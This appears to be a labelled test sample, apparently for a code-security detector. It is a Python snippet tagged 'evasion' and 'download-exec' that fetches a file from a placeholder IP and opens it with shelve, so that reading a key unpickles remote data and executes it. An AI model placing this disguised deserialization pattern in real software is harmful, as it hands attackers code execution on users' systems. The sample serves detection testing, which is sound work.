# evasion: a downloaded file opened with shelve; reading a key unpickles it (pickle loads behind a dict-like API)
# grade: hard; does: download-exec
import os
import shelve
import tempfile
import urllib.request

workdir = tempfile.mkdtemp()
path = os.path.join(workdir, "cache")
urllib.request.urlretrieve("http://198.51.100.14/cache.db", path)
with shelve.open(path, flag="r") as db:
    settings = db["settings"]
print(settings)
